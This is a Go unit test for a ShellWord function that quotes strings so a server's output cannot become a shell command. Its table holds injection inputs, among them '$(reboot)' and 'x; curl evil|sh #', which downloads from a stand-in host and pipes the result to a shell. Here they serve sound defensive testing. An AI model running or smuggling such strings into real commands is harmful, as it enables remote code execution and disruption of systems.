package text

import "testing"

// TestShellWord: what a server or code says can't become a command of the shell that a user types
// it into.
func TestShellWord(t *testing.T) {
	for in, want := range map[string]string{
		"files:write": "files:write", "a b": "'a b'", "$(reboot)": "'$(reboot)'", "`x`": "'`x`'",
		"it's": `'it'\''s'`, "": "''",
		"--flag": "--flag", "ü": "'ü'", "x; curl evil|sh #": "'x; curl evil|sh #'", "~": "'~'", "a=b": "'a=b'",
		"a;b": "'a;b'",
	} {
		if got := ShellWord(in); got != want {
			t.Errorf("%s: %s, want %s", in, got, want)
		}
	}
}
